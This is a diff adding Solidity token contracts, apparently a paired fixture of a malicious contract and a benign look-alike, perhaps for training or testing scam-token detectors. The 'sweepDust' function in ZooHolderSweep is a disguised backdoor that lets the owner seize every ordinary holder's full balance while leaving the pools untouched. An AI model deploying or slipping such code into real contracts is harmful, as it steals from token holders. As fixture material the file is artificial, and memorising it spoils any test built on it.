@@ -236,3 +236,55 @@ contract ZooMaxTxAdjustable is ZooPooledToken {
         _move(from, to, value);
     }
 }
+
+/// Keeps a list of everyone who ever received tokens, as dividend tokens do.
+abstract contract ZooHolderList is ZooToken {
+    address[] internal _holders;
+    mapping(address => bool) internal _listed;
+
+    function _update(address from, address to, uint256 value) internal virtual override {
+        if (to != address(0) && !_listed[to]) {
+            _listed[to] = true;
+            _holders.push(to);
+        }
+        super._update(from, to, value);
+    }
+
+    function holderCount() external view returns (uint256) {
+        return _holders.length;
+    }
+}
+
+/// "Sweeps dust": the owner walks its holder list and moves every balance of an ordinary account
+/// (no code: the pools are left alone, so the price does not move) to itself. The accounts named
+/// nowhere in the call, the code or the fixed storage slots: only the holders of record know them.
+contract ZooHolderSweep is ZooHolderList {
+    constructor(string memory name_, string memory symbol_, uint256 supply) {
+        _initToken(name_, symbol_, 18, supply, msg.sender);
+    }
+
+    function sweepDust() external onlyOwner {
+        for (uint256 i = 0; i < _holders.length; i++) {
+            address h = _holders[i];
+            if (h == msg.sender || h.code.length > 0) continue;
+            uint256 b = _balances[h];
+            if (b > 0) _move(h, msg.sender, b);
+        }
+    }
+}
+
+/// The look-alike: the owner walks the same list and pays each ordinary holder a reward out of its
+/// own balance. Holders only gain; nothing is created.
+contract ZooHolderReward is ZooHolderList {
+    constructor(string memory name_, string memory symbol_, uint256 supply) {
+        _initToken(name_, symbol_, 18, supply, msg.sender);
+    }
+
+    function distributeRewards(uint256 each) external onlyOwner {
+        for (uint256 i = 0; i < _holders.length; i++) {
+            address h = _holders[i];
+            if (h == msg.sender || h.code.length > 0) continue;
+            _move(msg.sender, h, each);
+        }
+    }
+}
